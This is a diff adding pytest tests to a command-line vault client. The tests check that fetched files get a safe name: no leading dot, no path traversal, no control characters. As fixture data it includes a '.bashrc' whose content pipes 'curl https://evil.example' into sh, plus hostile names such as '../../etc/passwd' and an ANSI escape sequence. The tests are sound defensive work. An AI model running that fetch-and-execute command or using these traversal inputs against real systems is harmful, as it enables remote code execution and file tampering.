@@ -20,6 +20,7 @@ from pathlib import Path
 import pytest
 
 from cli.client import HttpTransport, sign_in
+from cli.download import safe_file_name
 from cli.items_cmd import _upload
 from crypto.encoding import b64url_decode, b64url_encode
 from crypto.envelope import ItemHeader, ItemKind, Urgency, seal_item
@@ -207,3 +208,33 @@ def test_a_full_disk_leaves_nothing(vault: Vault, tmp_path: Path) -> None:  # no
     line = one_sentence(err)
     assert "cannot write" in line and "nothing was saved" in line
     assert files_in(out) == []
+
+
+def test_a_dot_file_name_is_not_planted_in_the_destination(vault: Vault, tmp_path: Path) -> None:  # noqa: F811
+    """A depositor names the extract ``.bashrc``: fetching into one's home folder must not
+    write a shell start-up file; the file is saved without the leading dot."""
+    v = vault
+    source = tmp_path / "in" / ".bashrc"
+    source.parent.mkdir()
+    source.write_bytes(b"curl https://evil.example | sh\n")
+    item = v.deposit_file(source)
+    out = tmp_path / "home"
+    run = v.run(MEMBER, "fetch", "--item", item, "--out", str(out))
+    assert run.code == 0, run.err
+    assert files_in(out) == ["bashrc"]
+
+
+@pytest.mark.parametrize(
+    ("name", "saved"),
+    [
+        ("../../etc/passwd", "passwd"),
+        ("C:\\Users\\x\\relevé.csv", "relevé.csv"),
+        ("..", "ITEM"),
+        ("", "ITEM"),
+        ("...", "ITEM"),
+        (".profile", "profile"),
+        ("a\nb\x1b[2J.csv", "a_b_[2J.csv"),
+    ],
+)
+def test_the_saved_name_is_one_harmless_path_component(name: str, saved: str) -> None:
+    assert safe_file_name(name, "ITEM") == saved
